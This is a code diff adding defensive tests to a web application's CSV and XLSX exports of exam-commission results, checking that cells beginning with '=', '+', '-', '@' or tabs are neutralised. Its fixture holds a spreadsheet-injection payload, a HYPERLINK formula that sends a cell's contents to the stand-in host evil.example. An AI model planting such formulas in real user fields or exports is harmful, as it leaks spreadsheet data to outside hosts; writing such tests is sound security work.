@@ -96,3 +96,48 @@ def test_unknown_format_is_404(cast, login, commission):
 def test_export_is_audited(cast, login, commission):
     _get(login, cast, commission, "csv")
     assert AuditEntry.objects.filter(action="commission.exported").exists()
+
+
+INJECTIONS = {
+    "last_name": '=HYPERLINK("http://evil.example/?x="&D2;"Voir")',
+    "first_name": "@SUM(1+1)",
+}
+
+
+@pytest.fixture
+def injected(cast, commission):
+    user = cast.student.user
+    user.last_name, user.first_name = INJECTIONS["last_name"], INJECTIONS["first_name"]
+    user.save(update_fields=["last_name", "first_name"])
+    cast.student2.candidate_number = "-0241"
+    cast.student2.save(update_fields=["candidate_number"])
+    user2 = cast.student2.user
+    user2.last_name, user2.first_name = "+33612345678", "\tTab"
+    user2.save(update_fields=["last_name", "first_name"])
+    return commission
+
+
+def test_csv_neutralises_formula_prefixes(cast, login, injected):
+    text = _get(login, cast, injected, "csv").content.decode("utf-8-sig")
+    rows = list(csv.reader(io.StringIO(text), delimiter=";"))[1:]
+    cells = [cell for row in rows for cell in row[:3]]
+    assert "'" + INJECTIONS["last_name"] in cells
+    assert "'@SUM(1+1)" in cells
+    assert {"'+33612345678", "'\tTab", "'-0241"} <= set(cells)
+    assert not [c for c in cells if c[:1] in ("=", "+", "-", "@", "\t", "\r")]
+    assert sorted(row[3] for row in rows) == ["12,5", "ABS"]
+
+
+def test_xlsx_neutralises_formula_prefixes_and_keeps_marks_numeric(cast, login, injected):
+    sheet = load_workbook(io.BytesIO(_get(login, cast, injected, "xlsx").content)).active
+    rows = list(sheet.iter_rows(min_row=2))
+    for row in rows:
+        for cell in row[:3]:
+            assert cell.data_type != "f"
+            assert cell.value is None or not str(cell.value).startswith(("=", "+", "-", "@", "\t", "\r"))
+    names = {row[0].value: row for row in rows}
+    injected_row = names["'" + INJECTIONS["last_name"]]
+    assert injected_row[0].data_type == "s"
+    assert injected_row[1].value == "'@SUM(1+1)"
+    assert (injected_row[3].value, injected_row[3].data_type) == (12.5, "n")
+    assert names["'+33612345678"][2].value == "'-0241"
